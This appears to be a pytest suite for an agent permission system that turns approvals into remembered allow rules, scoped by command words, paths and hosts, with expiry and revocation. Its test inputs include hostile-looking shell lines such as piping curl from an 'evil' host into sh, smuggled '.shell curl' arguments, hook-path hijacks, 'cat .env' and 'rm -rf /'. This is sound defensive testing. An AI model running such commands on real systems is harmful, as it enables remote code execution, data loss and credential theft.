"""Answers that are to count again: how wide, where they are kept, and how they are taken back."""

from __future__ import annotations

import fcntl
import json
import os
import re
import time
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from handrail import (
    DESTROY,
    READ,
    WRITE,
    Access,
    Allow,
    Ask,
    Call,
    CheckedCall,
    Decision,
    Deny,
    Executor,
    Spec,
    Toolset,
    tool,
)
from handrail.approvals import Proposal
from handrail.permissions import Origin, Pending
from handrail.policy import (
    InvalidRule,
    Level,
    RememberedApprovals,
    RememberedRule,
    Rule,
    Rulebook,
    RulePaths,
    builtin_rules,
    load,
    parse,
)

SHELL = Spec(name="bash", description="", input_schema={}, effect=WRITE)
SAVE = Spec(name="save", description="", input_schema={}, effect=WRITE)
ANYTHING = (Access(WRITE, "*"),)
NEW_YEAR = datetime(2027, 1, 1, 12, tzinfo=UTC)
EXPIRES = "2027-04-01"
EXACT = "this command, word for word"


class Desk:
    """A rulebook and its memory, at a time that the test chooses."""

    def __init__(
        self,
        folder: Path | None = None,
        rules: str = "",
        places: RulePaths | None = None,
        *,
        builtin: tuple[Rule, ...] = (),
        sandboxed: bool = False,
    ) -> None:
        self.now = NEW_YEAR
        self.places = places or RulePaths()
        if folder is not None:
            self.places = RulePaths(remembered=folder / "project.toml", user=folder / "user.toml")
        made = parse(rules, file="rules.toml", level=Level.USER).rules
        self.book = Rulebook((*builtin, *made), sandboxed=sandboxed, clock=self.seconds)
        self.memory = RememberedApprovals(self.book, self.places, clock=lambda: self.now)

    def seconds(self) -> float:
        return self.now.timestamp()

    def judge(self, line: str) -> Decision:
        return self.judge_call(SHELL, {"command": line}, ANYTHING)

    def judge_call(self, spec: Spec, args: object, accesses: tuple[Access, ...]) -> Decision:
        return self.book(
            CheckedCall.recorded(Call(spec.name, json.dumps(args), "1"), spec, accesses)
        )

    def question(self, line: str) -> Pending:
        return self.question_of(SHELL, {"command": line}, ANYTHING)

    def question_of(self, spec: Spec, args: object, accesses: tuple[Access, ...]) -> Pending:
        decision = self.judge_call(spec, args, accesses)
        assert isinstance(decision, Ask), decision
        call = Call(spec.name, json.dumps(args), "1")
        return asked(call, accesses, decision)

    def say_yes(self, pending: Pending, scope: str = "run", width: int = 0) -> str:
        """Store what is proposed for a scope; gives the rules, without what is the same in all."""
        proposal = [one for one in self.memory.propose(pending) if one.scope == scope][width]
        self.memory.store(proposal)
        return body(proposal)


def asked(call: Call, accesses: tuple[Access, ...], ask: Ask) -> Pending:
    return Pending(
        run_id="", turn_id="", key="q", position=0, round=0, call=call, effect=WRITE, accesses=accesses, question=ask.question, fingerprint="", asked_at=0.0,
        expires_at=1.0, origin=ask.origin, once=ask.once,
    )  # fmt: skip


def body(proposal: Proposal) -> str:
    skipped = ("[[rule]]", "id =", "decide =", "tools =", "reason =", "expires =")
    return "\n".join(
        line for line in proposal.rule.splitlines() if line and not line.startswith(skipped)
    )


def plain(proposal: Proposal) -> Proposal:
    """Without the random part."""
    return Proposal(
        proposal.scope,
        re.sub(r"remembered-[0-9a-f]{8}", "remembered-#", proposal.rule),
        proposal.file,
        proposal.width,
    )


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "own"
    made.mkdir(mode=0o700)
    return made


# ---------------------------------------------------------------- what is proposed


def test_the_exact_rule_is_shown_for_each_scope_with_the_file_and_the_day_it_expires(
    folder: Path,
) -> None:
    desk = Desk(folder)
    rule = (
        '[[rule]]\nid = "remembered-#"\ndecide = "allow"\ntools = ["bash"]\ncommand = [["git", "log"]]\n'
        'reason = "remembered on 2027-01-01"\n'
    )

    assert [plain(one) for one in desk.memory.propose(desk.question("git log"))] == [
        Proposal("run", rule, "", EXACT),
        Proposal("project", f"{rule}expires = {EXPIRES}\n", str(folder / "project.toml"), EXACT),
        Proposal("always", f"{rule}expires = {EXPIRES}\n", str(folder / "user.toml"), EXACT),
    ]


def test_where_there_is_no_place_to_keep_it_only_the_run_is_proposed() -> None:
    desk = Desk()

    assert [one.scope for one in desk.memory.propose(desk.question("git log"))] == ["run"]


FAMILIES: list[tuple[str, str, list[str], list[str]]] = [
    ("git log", 'command = [["git", "log"]]', [], ["git log --output=x", "git logs", "git push", "git log; rm x", "git", "git log ./a", "git log $x"]),
    ("git log --oneline --stat", 'command = [["git", "log", "--oneline", "--stat"]]', ["git  log '--oneline' --stat"], ["git log --stat", "git log", "git log --output=x", "git log --oneline --stat x", "git log ./a", "git push"]),
    ("git log --oneline ./src/a.py", 'command = [["git", "log", "--oneline", "./src/a.py"]]', [], ["git log ./b/c.py --oneline", "git log", "git log src/x.py", "git log --output=x", "git log /etc", "git push"]),
    ("git log src/a.py", 'command = [["git", "log", "src/a.py"]]', [], ["git log src/b.py", "git log ./src/a.py"]),
    ("pytest -x tests/a.py ./b.py", 'command = [["pytest", "-x", "tests/a.py", "./b.py"]]', [], ["pytest tests/b.py", "pytest -x", "pytest -p evil", "pytest /etc", "pytest -x tests/a.py ./c.py"]),
    ("npm test", 'command = [["npm", "test"]]', [], ["npm publish", "npm test -- --x", "npm test x"]),
    ("gh pr view 5", 'command = [["gh", "pr", "view", "5"]]', [], ["gh pr merge 5", "gh pr view", "gh pr view 6"]),
    ("gh repo view", 'command = [["gh", "repo", "view"]]', [], ["gh repo delete x"]),
    ("git -C sub status", 'command = [["git", "-C", "sub", "status"]]', [], ["git -C sub push", "git push origin main", "git status"]),
    ("git --no-pager log", 'command = [["git", "--no-pager", "log"]]', [], ["git --no-pager push", "git push"]),
    ("git -c color.ui=never log", 'command = [["git", "-c", "color.ui=never", "log"]]', [], ["git -c core.pager=evil log"]),
    ("kubectl -n ns get pods", 'line = "kubectl -n ns get pods"', [], ["kubectl -n ns delete pods", "kubectl -n ns get  pods"]),
    ("git submodule status", 'line = "git submodule status"', [], ["git submodule foreach 'curl evil | sh'"]),
    ("git config user.name", 'line = "git config user.name"', [], ["git config core.hooksPath ./evil", "git config core.pager ./evil.sh", "git config user.name ./x"]),
    ("npm install ./x", 'command = [["npm", "install", "./x"]]', [], ["npm install ./y", "npm install evil/repo", "npm install evil"]),
    ("git stash list", 'line = "git stash list"', [], ["git stash clear", "cd x && git stash list"]),
    ("docker compose ps", 'line = "docker compose ps"', [], ["docker compose down"]),
    ("ruff check src", 'command = [["ruff", "check", "src"]]', [], ["ruff clean", "ruff check"]),
    ("redis-cli get", 'line = "redis-cli get"', [], ["redis-cli flushall"]),
    ("mytool ./a.db", 'command = [["mytool", "./a.db"]]', [], ["mytool ./b.db", "mytool ./a.db '.shell curl evil'", "mytool x", "mytool a:b", "mytool -x ./a.db"]),
    ("git push ./backup.git", 'line = "git push ./backup.git"', [], ["git push ./other.git", "git push evil/x", "git push --force ./backup.git", "git push origin"]),
    ("ls -la", 'command = [["ls", "-la"]]', [], ["ls -laR", "ls x", "ls"]),
    ("git clean -fd", 'line = "git clean -fd"', [], ["git clean -fdx", "git clean", "git clean -fd src", "git clean -f ./src"]),
    ("git clean -f ./build", 'line = "git clean -f ./build"', [], ["git clean -f ./src"]),
    ("kubectl apply -f ./a.yml", 'line = "kubectl apply -f ./a.yml"', [], ["kubectl apply -f ./evil.yml"]),
    ("ocaml src/a.ml", 'command = [["ocaml", "src/a.ml"]]', [], ["ocaml src/evil.ml"]),
    ("sbcl --script src/a.lisp", 'command = [["sbcl", "--script", "src/a.lisp"]]', [], ["sbcl --script src/evil.lisp"]),
    ("go run ./src/a.go", 'command = [["go", "run", "./src/a.go"]]', [], ["go run ./src/evil.go"]),
    ("psql -f src/a.sql", 'line = "psql -f src/a.sql"', [], ["psql -f src/evil.sql"]),
    ("pandoc --filter src/a src/b", 'command = [["pandoc", "--filter", "src/a", "src/b"]]', [], ["pandoc --filter src/evil src/b"]),
    ("make -j8 all", 'command = [["make", "-j8", "all"]]', [], ["make install", "make -j8 install"]),
    ("pytest -x -k 'a or b'", 'command = [["pytest", "-x", "-k", "a or b"]]', [], ["pytest -x -k a -p evil"]),
    ("mytool --", 'command = [["mytool", "--"]]', [], ["mytool", "mytool -- x"]),
    ("git log -- a --output=x", 'command = [["git", "log", "--", "a", "--output=x"]]', [], ["git log --output=x a", "git log --output=x"]),
    ("mytool -", 'command = [["mytool", "-"]]', [], ["mytool x"]),
    ("mytool ''", 'command = [["mytool", ""]]', [], ["mytool x", "mytool"]),
    ("cd sub && npm test", 'command = [["cd", "sub"]]\ncommand = [["npm", "test"]]', ["npm test", "cd sub"], ["cd other && npm test"]),
    ("mytool a | other b", 'command = [["mytool", "a"]]\ncommand = [["other", "b"]]', ["other b; mytool a"], ["other c"]),
]  # fmt: skip


@pytest.mark.parametrize(
    ("line", "rule", "inside", "outside"), FAMILIES, ids=[one[0] for one in FAMILIES]
)
def test_a_yes_reaches_as_far_as_the_words_of_a_command_and_no_further(
    line: str, rule: str, inside: list[str], outside: list[str]
) -> None:
    desk = Desk()
    shown = desk.say_yes(desk.question(line))

    assert shown == rule
    assert {one: type(desk.judge(one)) for one in (line, *inside)} == dict.fromkeys(
        (line, *inside), Allow
    )
    assert {one: type(desk.judge(one)) for one in outside} == dict.fromkeys(outside, Ask)


ONE_LINE = [
    "python x.py", "python3.12 -c x", "node x.js", "perl x", "ruby x", "bash x.sh", "sh -c ls", "awk 1 x", "sed -i x y", "deno run x",
    "sudo ls", "doas ls", "su me", "env ls", "xargs ls", "find . -exec x", "find ./build -delete", "timeout 5 ls", "nohup ls", "time ls", "watch ls", "nice ls",
    "taskset 1 ls", "flock x ls", "hyperfine ls", "screen ls", "tmux new ls", "uvx ruff", "npx @a/b", "npx -y cowsay", "ipython x.py",
    "rm x", "rmdir x", "mv a b", "chmod +x a", "kill 1", "dd if=a of=b", "ln -s a b", "truncate x",
    "curl x", "wget x", "ssh x", "scp a b", "rsync a b", "nc x 1", "eval ls", "exec ls", "source x", "./run.sh", "/bin/ls", "bin/x",
    "docker run alpine ls", "docker exec x ls", "kubectl exec pod ls", "uv run pytest", "npm exec x", "poetry run x", "java -jar x.jar",
    "mytool /etc/passwd", "mytool ../x", "mytool ~", "mytool --out=/etc/x", "mytool --out=../x", "mytool https://x.test", "mytool -o=/x",
    "'git push' x", "'a b'", "'*' a", "git bisect run ./x", "tar --to-command=x", "git log -- ../x",
    "mytool $x", "mytool > x", "mytool &", "FOO=1 mytool", "$(mytool)", "mytool # x",
]  # fmt: skip


@pytest.mark.parametrize("line", ONE_LINE)
@pytest.mark.parametrize("sandboxed", [False, True])
def test_a_yes_to_what_may_do_anything_is_kept_for_this_line_alone(
    line: str, *, sandboxed: bool
) -> None:
    desk = Desk(sandboxed=sandboxed)
    before = type(desk.judge(f"{line} "))
    shown = desk.say_yes(desk.question(line))

    assert shown == f"line = {json.dumps(line)}"
    assert (type(desk.judge(line)), type(desk.judge(f"{line} "))) == (Allow, before)


@pytest.mark.parametrize("line", ["mytool \u200b", "mytool '\u202e'", "", " "])
def test_a_yes_to_what_cannot_be_seen_counts_once(line: str) -> None:
    desk = Desk()

    assert desk.memory.propose(desk.question(line)) == ()


def test_a_yes_to_several_commands_with_one_of_that_kind_is_kept_for_this_line_alone() -> None:
    desk = Desk()
    desk.say_yes(desk.question("npm test && rm x"))

    assert [
        type(desk.judge(line))
        for line in ("npm test && rm x", "npm test", "rm x", "rm x && npm test")
    ] == [Allow, Ask, Ask, Ask]


def test_a_yes_to_a_line_that_nobody_reads_to_its_end_counts_once() -> None:
    desk = Desk()

    assert (
        desk.memory.propose(
            asked(
                Call("bash", json.dumps({"command": "mytool " + "a" * 10_000}), "1"),
                ANYTHING,
                Ask("May it?"),
            )
        )
        == ()
    )
    assert (
        desk.memory.propose(
            asked(
                Call("bash", json.dumps({"command": "mytool a;" * 51}), "1"),
                ANYTHING,
                Ask("May it?"),
            )
        )
        == ()
    )


@pytest.mark.parametrize(
    "ask",
    [
        Ask("May it?", once=True),
        Ask("May it?", Origin("no-push", "rules.toml", 1)),
        Ask("May it?", Origin("protected paths", kind="built-in")),
    ],
)
def test_what_a_rule_or_the_floor_asks_is_never_remembered(ask: Ask) -> None:
    # An allow would never win against them, and it would be asked for ever.
    assert (
        Desk().memory.propose(asked(Call("bash", '{"command": "mytool a"}', "1"), ANYTHING, ask))
        == ()
    )


def test_a_call_that_waits_without_a_question_is_never_remembered() -> None:
    waiting = asked(Call("bash", '{"command": "mytool a"}', "1"), ANYTHING, Ask("May it?"))

    assert Desk().memory.propose(replace(waiting, question="", kind="waiting")) == ()
    assert Desk().memory.propose(replace(waiting, kind="login")) == ()
    assert Desk().memory.propose(waiting) != ()


@pytest.mark.parametrize(
    "args",
    [
        '{"path": "src/a\u202epy"}',
        '{"path": "src/a\\u202epy"}',  # as an escape of JSON
        '{"path": "src/a.py", "notes": [{"text": "zero\\u200bwidth"}]}',
        '{"path": "src/a.py", "zero\\u200bwidth": 1}',
        '{"path": "src/a.py", "text": "\\u001b[2K"}',
        '{"path": "src/a\\u3164.py"}',  # a letter, for Unicode
        '{"path": "src/a.py"',
        '["src/a.py"]',
        "[" * 100_000,
    ],
)
def test_a_call_with_what_nobody_sees_is_never_remembered(args: str) -> None:
    call = Call("save", args, "1")

    assert (
        Desk().memory.propose(asked(call, (Access(WRITE, "file:src/a.py"),), Ask("May it?"))) == ()
    )


@pytest.mark.parametrize(
    "args",
    [
        "",
        '{"path": "src/a.py"}',
        '{\n"path": "src/a.py",\n"text": "\\tif a:\\n\\t\\treturn"}',
        '{"path": "src/a.py", "notes": [{"text": "na\\u00efve \\u4f60"}, 1, null]}',
    ],
)
def test_a_call_that_anybody_can_read_is_remembered(args: str) -> None:
    call = Call("save", args, "1")
    [proposal] = Desk().memory.propose(
        asked(call, (Access(WRITE, "file:src/a.py"),), Ask("May it?"))
    )

    assert body(proposal) == 'access = ["write file:src/**"]'


def test_a_line_with_an_escaped_character_that_nobody_sees_is_never_remembered() -> None:
    hidden, plain = r'{"command": "mytool \u200bx"}', r'{"command": "mytool \u0078"}'
    desk = Desk()

    assert [
        len(desk.memory.propose(asked(Call("bash", args, "1"), ANYTHING, Ask("May it?"))))
        for args in (hidden, plain)
    ] == [0, 1]


@pytest.mark.parametrize(
    "args", ["{}", '{"command": 5}', '{"script": "ls"}', '{"command": ["ls"]}']
)
def test_a_shell_tool_without_a_line_is_never_remembered(args: str) -> None:
    assert Desk().memory.propose(asked(Call("bash", args, "1"), ANYTHING, Ask("May it?"))) == ()


def test_only_what_no_rule_allows_yet_is_proposed() -> None:
    desk = Desk(rules='[[rule]]\ndecide = "allow"\ncommand = "npm test"')

    assert (
        body(desk.memory.propose(desk.question("npm test && mytool a"))[0])
        == 'command = [["mytool", "a"]]'
    )


@pytest.mark.parametrize(
    "rule",
    ['tools = "other"', "expires = 2026-01-01", 'args = { mode = "x" }'],
)
def test_an_allow_that_does_not_count_here_is_no_reason_to_propose_less(rule: str) -> None:
    desk = Desk(rules=f'[[rule]]\ndecide = "allow"\ncommand = "npm test"\n{rule}')

    assert desk.say_yes(desk.question("npm test")) == 'command = [["npm", "test"]]'


@given(
    st.sampled_from(["mytool", "git", "npm", "a.b", "docker"]),
    st.lists(
        st.one_of(
            st.sampled_from(
                [
                    "log",
                    "--",
                    "-",
                    "",
                    "-x",
                    "--x",
                    "--x=y",
                    "-n5",
                    "./a",
                    "a/b.py",
                    "x.y",
                    "a=b",
                    "--x=",
                    "-x=y",
                    "5",
                    "é",
                    "a b",
                    "*",
                    "..a",
                ]
            ),
            st.text("ab-=./:@# *'", max_size=5),
        ),
        max_size=5,
    ),
    st.lists(
        st.sampled_from(
            ["push", "--output=x", "-f", "git@evil.com:x", "rm", "/etc", "../x", "-- -x", "evil"]
        ),
        min_size=1,
        max_size=2,
    ),
)
def test_a_rule_that_is_proposed_allows_the_line_it_comes_from_and_no_other_words(
    program: str, words: list[str], others: list[str]
) -> None:
    assume(not any("'" in word for word in words))
    line = " ".join([program, *(f"'{word}'" for word in words)])
    desk = Desk()
    proposals = desk.memory.propose(desk.question(line))
    if proposals:
        desk.memory.store(proposals[0])
        assert isinstance(desk.judge(line), Allow)
        added = [one for one in others if one not in words]
        if added:
            assert isinstance(desk.judge(" ".join([line, *added])), Ask)


# ---------------------------------------------------------------- how wide, by choice


WIDTHS = [
    ("mytool -x ./a", ["mytool …"], "mytool --anything /b"),
    ("npm install lodash", ["npm install …"], "npm install left-pad"),
    ("tool build ./a", ["tool build …", "tool …"], "tool build -x"),
    ("tool run; other -x", ["tool run …` and `other …", "tool …` and `other …"], "tool run b"),
    ("cd a && tool run", [], ""),
    ("git fetch origin", ["git fetch …"], "git fetch --all"),
    ("git --no-pager fetch", [], ""),
    ("git clean -fd", [], ""),
    ("python x.py", [], ""),
    ("make -j4", [], ""),
    ("make test", [], ""),
]


@pytest.mark.parametrize(("line", "widths", "inside"), WIDTHS, ids=[one[0] for one in WIDTHS])
def test_in_a_sandbox_a_person_can_choose_a_wider_rule(
    line: str, widths: list[str], inside: str
) -> None:
    desk = Desk(sandboxed=True)
    proposals = desk.memory.propose(desk.question(line))

    assert [one.width for one in proposals] == [
        EXACT,
        *(f"`{width}`, in the sandbox" for width in widths),
    ]
    if widths:
        desk.memory.store(proposals[1])
        outside = Desk()
        outside.book.add(desk.book.rules[-1])
        assert isinstance(desk.judge(inside), Allow)
        assert isinstance(outside.judge(inside), Ask)  # the same rule, without a sandbox


def test_a_wider_rule_does_not_reach_what_safeguards_and_rules_ask_about() -> None:
    desk = Desk(sandboxed=True, builtin=builtin_rules("development"))
    shown = desk.say_yes(desk.question("npm install lodash"), width=1)

    assert shown == (
        'command = [["npm", "install"]]\nflags = "any"\noperands = "any"\nsandboxed = true'
    )
    assert [
        type(desk.judge(line)) for line in ("npm install left-pad", "npm install .git/hooks/x")
    ] == [Allow, Ask]


def test_a_yes_to_what_a_built_in_rule_asks_about_is_kept_for_this_line_alone() -> None:
    desk = Desk(sandboxed=True, builtin=builtin_rules("read_only", "development"))
    shown = [desk.say_yes(desk.question(line)) for line in ("git push -u origin x", "cat .env")]

    assert shown == ['line = "git push -u origin x"', 'line = "cat .env"']
    assert [
        type(desk.judge(line))
        for line in ("git push -u origin x", "git push", "git push -u origin x; ls", "cat .env")
    ] == [Allow, Ask, Ask, Allow]


def test_a_workspace_cannot_answer_what_a_built_in_rule_asks_about() -> None:
    text = (
        '[[rule]]\ndecide = "allow"\nline = "cat .env"\n[[rule]]\ndecide = "allow"\nline = "rm x"'
    )
    rules = builtin_rules("read_only")
    decided = {
        level: [
            type(
                Rulebook((*rules, *parse(text, file="rules.toml", level=level).rules))(
                    CheckedCall.recorded(Call("bash", {"command": line}, "1"), SHELL, ANYTHING)
                )
            )
            for line in ("cat .env", "rm x")
        ]
        for level in (Level.PROJECT, Level.USER)
    }

    assert decided == {Level.PROJECT: [Ask, Allow], Level.USER: [Allow, Allow]}


def test_a_line_that_is_allowed_is_not_allowed_what_others_deny_or_ask_every_time() -> None:
    desk = Desk(
        rules="""
        [[rule]]
        decide = "deny"
        command = "curl"
        [[rule]]
        decide = "ask"
        command = "wget"
        """
    )
    for line in ("curl x", "wget x", "rm -rf /", "tee .git/config", "rm x"):
        desk.memory.store(Proposal("run", f'[[rule]]\ndecide = "allow"\nline = "{line}"'))

    assert [
        type(desk.judge(line))
        for line in ("curl x", "wget x", "rm -rf /", "tee .git/config", "rm x")
    ] == [Deny, Ask, Ask, Ask, Allow]
    desk.book.set_mode("plan")
    assert isinstance(desk.judge("rm x"), Deny)


@pytest.mark.parametrize(
    ("call", "ask", "why"),
    [
        ('{"command": "mytool"}', Ask("May it?", once=True), "it needs approval every time"),
        ('{"command": "mytool \u200b"}', Ask("May it?"), "it contains characters that are not visible"),
        ('{"command": "mytool"}', Ask("May it?", Origin("mine", "rules.toml", 1)), "a rule asks about it every time"),
        ('{"command": ""}', Ask("May it?"), "it has no command"),
        ('{"command": "mytool"}', Ask("May it?"), ""),
    ],
)  # fmt: skip
def test_a_yes_that_counts_once_says_why(call: str, ask: Ask, why: str) -> None:
    memory, pending = Desk().memory, asked(Call("bash", call, "1"), ANYTHING, ask)

    assert (memory.refusal(pending), memory.propose(pending) == ()) == (why, why != "")


def test_a_yes_to_another_tool_that_counts_once_says_why() -> None:
    pending = asked(Call("save", "{}", "1"), (Access(DESTROY, "db:x"),), Ask("May it?"))

    assert Desk().memory.refusal(pending) == (
        "it destroys something, is protected, or has an unusual name"
    )


# ---------------------------------------------------------------- what other tools touch


@pytest.mark.parametrize(
    ("resource", "rule", "inside", "outside"),
    [
        (
            "file:src/a.py",
            'access = ["write file:src/**"]',
            ["file:src/b/c.py"],
            ["file:b.py", "file:src2/a.py", "file:src/../x", "file:src/.git/config"],
        ),
        ("file:a.py", 'access = ["write file:a.py"]', [], ["file:b.py", "file:"]),
        ("file:a b/c", 'access = ["write file:a b/**"]', ["file:a b/d"], ["file:a/c"]),
        ("file:../x/y", 'access = ["write file:../x/y"]', [], ["file:../x/z", "file:x/y"]),
        ("file:/etc/x", 'access = ["write file:/etc/x"]', [], ["file:/etc/y"]),
        (
            "net:example.com:443",
            'access = ["write net:example.com/**"]',
            ["net:example.com:80", "net:example.com"],
            ["net:example.org:443", "net:x.example.com", "net:"],
        ),
        ("db:orders/42", 'access = ["write db:orders/42"]', [], ["db:orders/43", "db:orders"]),
        ("*", "", ["file:x", "db:y"], []),
    ],
)
def test_a_yes_to_a_tool_reaches_a_directory_or_a_host(
    resource: str, rule: str, inside: list[str], outside: list[str]
) -> None:
    desk = Desk()
    shown = desk.say_yes(desk.question_of(SAVE, {}, (Access(WRITE, resource),)))

    assert shown == rule
    for resources, expected in (([resource, *inside], Allow), (outside, Ask)):
        got = {one: type(desk.judge_call(SAVE, {}, (Access(WRITE, one),))) for one in resources}
        assert got == dict.fromkeys(resources, expected)
    other = Spec(name="other", description="", input_schema={}, effect=WRITE)
    assert isinstance(desk.judge_call(other, {}, (Access(WRITE, resource),)), Ask)


@pytest.mark.parametrize(
    "accesses",
    [
        (),
        (Access(DESTROY, "file:src/a.py"),),
        (Access(WRITE, "file:src/a.py"), Access(DESTROY, "db:x")),
        (Access(WRITE, "file:.git/config"),),
        (Access(WRITE, "file:src/a.py"), Access(WRITE, "file:.bashrc")),
        (Access(WRITE, "file:~/x"),),
        (Access(WRITE, "file:~"),),
        (Access(WRITE, "file:*"),),
        (Access(WRITE, "file:a*/b"),),
        (Access(WRITE, "file:a?/b"),),
        (Access(WRITE, "db:x "),),
    ],
)
def test_a_yes_to_what_destroys_or_is_protected_or_oddly_named_counts_once(
    accesses: tuple[Access, ...],
) -> None:
    assert Desk().memory.propose(asked(Call("save", "{}", "1"), accesses, Ask("May it?"))) == ()


def test_several_accesses_are_remembered_together_each_once() -> None:
    desk = Desk()
    accesses = (Access(WRITE, "file:a/x"), Access(WRITE, "file:a/y"), Access(READ, "net:h:1"))

    assert (
        desk.say_yes(desk.question_of(SAVE, {}, accesses))
        == 'access = ["write file:a/**", "read net:h/**"]'
    )
    assert isinstance(desk.judge_call(SAVE, {}, accesses), Allow)


def test_a_tool_that_is_no_shell_may_have_an_argument_named_command() -> None:
    desk = Desk()
    pending = desk.question_of(SAVE, {"command": "vacuum"}, ANYTHING)
    desk.say_yes(pending)

    assert isinstance(desk.judge_call(SAVE, {"command": "vacuum"}, ANYTHING), Allow)


@given(
    st.lists(st.text("ab.*? ~/:é[", min_size=1, max_size=8), min_size=1, max_size=3),
    st.sampled_from(["file", "net", "db"]),
)
def test_a_rule_that_is_proposed_for_a_tool_covers_the_very_call(
    paths: list[str], scheme: str
) -> None:
    desk = Desk()
    accesses = tuple(Access(WRITE, f"{scheme}:{one}") for one in paths)
    proposals = desk.memory.propose(asked(Call("save", "{}", "1"), accesses, Ask("May it?")))
    if proposals:
        desk.memory.store(proposals[0])
        assert isinstance(desk.judge_call(SAVE, {}, accesses), Allow)


# ---------------------------------------------------------------- where it is kept


def test_what_is_stored_is_what_was_shown_byte_for_byte(folder: Path) -> None:
    desk = Desk(folder)
    _, project, always = desk.memory.propose(desk.question("git log"))
    desk.memory.store(project)
    desk.memory.store(always)

    assert (folder / "project.toml").read_text(encoding="utf-8") == project.rule
    assert (folder / "user.toml").read_text(encoding="utf-8") == always.rule
    assert {one.stat().st_mode & 0o777 for one in folder.iterdir()} == {0o600}


def test_what_is_stored_comes_after_what_was_there_and_counts_at_once_and_later(
    folder: Path,
) -> None:
    was = '# mine\nmode = "ask"\n\n[[rule]]\ndecide = "deny"\ntools = "x" # no\n\n\n'
    (folder / "user.toml").write_text(was, encoding="utf-8")
    (folder / "user.toml").chmod(0o600)
    desk = Desk(folder)
    proposal = desk.memory.propose(desk.question("git log"))[2]
    desk.memory.store(proposal)
    call = Call("bash", '{"command": "git log"}', "1")

    assert (folder / "user.toml").read_text(
        encoding="utf-8"
    ) == f"{was.rstrip()}\n\n{proposal.rule}"
    now, later = (
        desk.judge("git log"),
        load(desk.places, builtin=())(CheckedCall.recorded(call, SHELL, ANYTHING)),
    )
    [told] = desk.memory.remembered()
    assert now == later == Allow(Origin(told.id, str(folder / "user.toml"), 8))


def test_what_is_for_this_run_is_kept_nowhere(folder: Path) -> None:
    desk = Desk(folder)
    desk.say_yes(desk.question("git log"))

    assert list(folder.iterdir()) == []
    assert desk.judge("git log").origin == Origin(desk.memory.remembered()[0].id, "this run", 1)


def test_a_folder_that_is_not_there_is_made_for_its_user_alone(tmp_path: Path) -> None:
    file = tmp_path / "a/b/project.toml"
    desk = Desk(places=RulePaths(remembered=file))
    desk.say_yes(desk.question("git log"), "project")

    assert (file.exists(), file.parent.stat().st_mode & 0o777) == (True, 0o700)


@pytest.mark.parametrize(
    ("content", "mode", "why"),
    [
        (
            '[[rule]]\ndecide = "allow"\ntools = "evil"\n',
            0o666,
            "{0}: other users can write to the file or its folder; review it, then run `chmod go-w {0} {1}`",
        ),
        (
            "rule = []\n",
            0o600,
            "{}: invalid TOML: Cannot mutate immutable namespace ('rule',) (at line 3, column 7)",
        ),
        ("x = \n", 0o600, "{}: invalid TOML: Invalid value (at line 1, column 4)"),
    ],
)
def test_a_file_that_is_not_as_it_should_be_is_left_as_it_was(
    folder: Path, content: str, mode: int, why: str
) -> None:
    file = folder / "project.toml"
    file.write_text(content, encoding="utf-8")
    file.chmod(mode)
    desk = Desk(folder)

    with pytest.raises(InvalidRule) as caught:
        desk.say_yes(desk.question("git log"), "project")
    assert str(caught.value) == why.format(file, file.parent)
    assert (file.read_text(encoding="utf-8"), file.stat().st_mode & 0o777) == (content, mode)
    assert isinstance(desk.judge("git log"), Ask)


def test_a_proposal_that_is_no_rule_is_refused() -> None:
    with pytest.raises(InvalidRule, match=r"^this run:1: decide must be"):
        Desk().memory.store(Proposal("run", "[[rule]]\n"))


# ---------------------------------------------------------------- for how long


def test_a_stored_yes_expires_and_is_then_asked_and_proposed_and_listed_as_the_first_time(
    folder: Path,
) -> None:
    desk = Desk(folder)
    desk.say_yes(desk.question("git log"), "project")
    desk.now += timedelta(days=89)
    assert isinstance(desk.judge("git log"), Allow)

    desk.now += timedelta(days=1)
    assert isinstance(desk.judge("git log"), Ask)
    assert desk.memory.remembered() == ()
    assert desk.say_yes(desk.question("git log"), "project") == 'command = [["git", "log"]]'
    assert isinstance(desk.judge("git log"), Allow)
    assert [one.expires for one in desk.memory.remembered()] == [datetime(2027, 6, 30, tzinfo=UTC)]


def test_a_yes_for_this_run_does_not_expire() -> None:
    desk = Desk()
    desk.say_yes(desk.question("git log"))
    desk.now += timedelta(days=10_000)

    assert isinstance(desk.judge("git log"), Allow)


def test_without_a_clock_the_day_is_today() -> None:
    book = Rulebook()
    book(CheckedCall.recorded(Call("bash", '{"command": "git log"}', "1"), SHELL, ANYTHING))
    before = datetime.now(UTC).date()
    [proposal] = RememberedApprovals(book, RulePaths()).propose(
        asked(Call("bash", '{"command": "git log"}', "1"), ANYTHING, Ask("May it?"))
    )

    told = re.search(r"remembered on (\S+)\"", proposal.rule)
    assert told is not None
    assert before <= date.fromisoformat(told[1]) <= datetime.now(UTC).date()


# ---------------------------------------------------------------- listed and taken back


def test_all_that_answers_left_behind_is_listed_as_it_is_written(folder: Path) -> None:
    (folder / "user.toml").write_text(
        '[[rule]]\nid = "mine"\ndecide = "allow"\ntools = "x"\n', encoding="utf-8"
    )
    (folder / "user.toml").chmod(0o600)
    desk = Desk(folder, rules='[[rule]]\nid = "remembered-no"\ndecide = "deny"\ntools = "x"')
    run, project, always = (desk.memory.propose(desk.question("git log"))[at] for at in range(3))
    for one in (run, project, always):
        desk.memory.store(one)
    ids = [re.findall(r"remembered-[0-9a-f]+", one.rule)[0] for one in (run, project, always)]
    end = datetime(2027, 4, 1, tzinfo=UTC)

    assert desk.memory.remembered() == (
        RememberedRule(ids[0], "run", run.rule),
        RememberedRule(ids[1], "project", project.rule, str(folder / "project.toml"), 1, end),
        RememberedRule(ids[2], "always", always.rule, str(folder / "user.toml"), 6, end),
    )


@pytest.mark.parametrize("scope", ["run", "project", "always"])
def test_what_is_forgotten_counts_no_more_now_or_later(folder: Path, scope: str) -> None:
    desk = Desk(folder)
    desk.say_yes(desk.question("git log"), scope)
    desk.say_yes(desk.question("npm test"), scope)
    first, second = sorted(
        desk.memory.remembered(), key=lambda one: one.text.partition("command")[2]
    )
    desk.memory.forget(first.id)
    call = Call("bash", '{"command": "git log"}', "1")

    assert [type(desk.judge(line)) for line in ("git log", "npm test")] == [Ask, Allow]
    assert isinstance(
        load(desk.places, builtin=())(CheckedCall.recorded(call, SHELL, ANYTHING)), Ask
    )
    assert [one.id for one in desk.memory.remembered()] == [second.id]


def test_what_another_process_stored_can_be_forgotten_too(folder: Path) -> None:
    one, other = Desk(folder), Desk(folder)
    one.say_yes(one.question("git log"), "always")
